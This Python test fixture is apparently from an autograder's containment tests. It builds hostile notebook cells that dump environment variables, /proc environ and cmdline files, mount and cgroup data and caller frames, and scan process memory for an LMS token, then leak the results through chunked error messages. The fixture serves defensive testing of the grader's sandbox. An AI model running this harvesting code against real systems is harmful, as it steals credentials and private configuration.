"""Top-level cells that dump everything the grader might have handed down (os.environ, /proc/self and /proc/1 environ and cmdline, mountinfo, cgroup, argv, the frames above the cell, its own memory searched for the grader's LMS token) into the feedback: attacks the grader's secrets; every part keeps full points."""
from autograder.assignment import PART_IDS
ATTACKS = []
KEEPS = list(PART_IDS)
# Names of variables only the grader's environment holds (tests/test_containment.py also checks their values).
NEVER = ["HOSTILE_RUN_MARKER=", "LMS_TOKEN=", "'LMS_TOKEN'"]
EXPECT = ["SECRETS 0/", "MOUNTS["]
CHUNK, CELLS = 420, 14

DUMP = '''
import ctypes
import os
import posix
import sys


def _read(path):
    try:
        with open(path, "rb") as handle:
            return handle.read()
    except OSError as err:
        return f"<{type(err).__name__}>"


def _memory_hits(prefix):
    """The bytes after every copy of ``prefix`` in this process's own anonymous memory."""
    hits = []
    for line in open("/proc/self/maps").read().splitlines():
        parts = line.split()
        start, end = (int(x, 16) for x in parts[0].split("-"))
        name = parts[5] if len(parts) > 5 else ""
        if "r" not in parts[1] or (name and name not in ("[heap]", "[stack]")) or end - start > 1 << 30:
            continue
        for at in range(start, end, 64 << 20):
            try:
                data = ctypes.string_at(at, min(64 << 20, end - at))
            except Exception:  # noqa: BLE001
                continue
            i = data.find(prefix)
            while i >= 0 and len(hits) < 20:
                hits.append(data[i:i + 48])
                i = data.find(prefix, i + 1)
            del data
    return hits


frames, frame = [], sys._getframe()
while frame is not None:
    frames.append(f"{frame.f_code.co_name}({', '.join(f'{k}={v!r:.60}' for k, v in frame.f_locals.items() if k != '__builtins__' and frame.f_code.co_name != '<module>')})")
    frame = frame.f_back
mounts = sorted({line.split()[4] for line in open("/proc/self/mountinfo")})
_SECRETS = "\\n".join([
    f"MOUNTS[{','.join(mounts).encode().hex()}]",  # hex: the grader's redaction (a backstop) must not hide what pivot_root shows
    f"environ={dict(os.environ)!r} environb={len(os.environb)} posix={len(posix.environ)}",
    f"self.environ={_read('/proc/self/environ')!r}", f"self.cmdline={_read('/proc/self/cmdline')!r}",
    f"1.environ={_read('/proc/1/environ')!r}", f"1.cmdline={_read('/proc/1/cmdline')!r}",
    f"argv={sys.argv!r} orig_argv={sys.orig_argv!r} uid={os.getuid()} host={os.uname().nodename}",
    f"cgroup={_read('/proc/self/cgroup')!r}",
    f"memory={_memory_hits(('lms-' + 'token-').encode())!r}",
    f"frames={' < '.join(frames)}",
    f"mountinfo={_read('/proc/self/mountinfo')!r}",
])
'''
ADD = [(None, DUMP)] + [(None, f'''
_total = -(-len(_SECRETS) // {CHUNK})
raise RuntimeError(f"SECRETS {k}/{{_total}} " + _SECRETS[{k * CHUNK}:{(k + 1) * CHUNK}])''') for k in range(CELLS)]


def check(output):
    assert "SECRETS 0/" in output
